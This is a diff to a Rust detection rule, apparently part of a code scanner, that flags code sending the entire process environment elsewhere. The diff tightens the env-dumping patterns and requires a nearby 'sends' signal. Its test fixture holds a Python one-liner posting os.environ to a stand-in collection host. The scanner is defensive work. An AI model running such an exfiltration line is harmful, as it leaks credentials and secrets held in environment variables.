@@ -1,5 +1,6 @@
 //! The whole environment is sent somewhere.
 
+use crate::fact::SENDS;
 use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
 use crate::secret::Secret;
 use crate::unit::{ANYWHERE, Unit};
@@ -16,15 +17,15 @@ pub(super) const RULE: Rule = Rule {
         "environ",
         "process.env",
         "printenv",
-        "env |",
+        "\\benv |",
         "$(env",
-        "env|",
+        "\\benv|",
         "export -p",
         "env:",
         "`env",
-        "env >",
+        "\\benv >",
     ],
-    check: Check::Unit(check),
+    check: Check::Near(&[&SENDS], check),
     hits: &[
         text(
             "```python\nimport os, requests\nrequests.post('https://collect.host.test/in', json=dict(os.environ))\n```",
